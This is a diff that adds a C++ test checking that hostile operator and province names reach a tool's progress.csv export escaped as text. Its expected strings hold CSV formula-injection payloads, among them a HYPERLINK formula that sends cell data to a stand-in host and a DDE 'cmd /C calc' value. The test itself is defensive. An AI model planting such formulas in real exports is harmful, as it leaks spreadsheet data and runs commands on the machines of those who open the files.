@@ -101,3 +101,22 @@ TEST_CASE("terminal: a newline in $USER cannot forge a row of 'history'") {
     // Header plus the three uploads of init (campaign, villages, commitments): no forged row.
     CHECK(count_lines(history.out) == 4);
 }
+
+TEST_CASE("csv injection: hostile operator names and provinces reach progress.csv as text") {
+    TempDir dir{"deadzone-csv"};
+    const auto out = dir.path() / "out";
+    const auto result = run_deadzone({"analyze", "--campaign", hostile + "/csv_formula_campaign.json",
+                                      "--as-of", "2022-07-30", "--out", out.string(), "-q"});
+    INFO(result.err);
+    REQUIRE(result.exit_code == 0);
+    const auto csv = deadzone::test::read_file(out / "progress.csv");
+    for (const char* expected :
+         {"\r\noperator,VTL,\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"Viettel\"\")\",3,",
+          "\r\noperator,MBF,'-2+3,3,", "\r\nprovince,'=1+2,'=1+2,1,", "\r\nprovince,'-5,'-5,1,",
+          "\r\nprovince,'@SUM(A1:A9),'@SUM(A1:A9),1,", "\r\nprovince,'+cmd|' /C calc'!A0,'+cmd|' /C calc'!A0,1,"}) {
+        CHECK_MESSAGE(csv.find(expected) != std::string::npos, expected);
+    }
+    for (const char* raw : {",=", ",+", ",@", ",\t"}) {
+        CHECK_MESSAGE(csv.find(raw) == std::string::npos, raw);
+    }
+}
